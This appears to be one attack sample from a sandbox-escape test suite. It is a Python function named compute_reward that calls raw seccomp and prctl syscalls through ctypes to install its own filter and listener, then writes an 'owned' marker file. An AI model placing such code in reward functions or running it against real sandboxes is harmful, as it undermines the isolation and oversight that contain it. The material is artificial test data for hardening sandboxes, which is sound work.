# attack: a filter of its own whose questions a listener answers
# group: syscalls
# wall: language; alone: seccomp

def compute_reward(x):
    import ctypes, struct
    lib = ctypes.CDLL(None, use_errno=True)
    code = struct.pack("<HBBI", 6, 0, 0, 0x7FFF0000)
    class Program(ctypes.Structure):
        _fields_ = [("n", ctypes.c_ushort), ("f", ctypes.c_char_p)]
    program = Program(1, code)
    lib.syscall(317, 1, 8, ctypes.byref(program))
    lib.prctl(22, 2, ctypes.byref(program))
    open("@FOLDER@/owned", "w")
    return x, {}
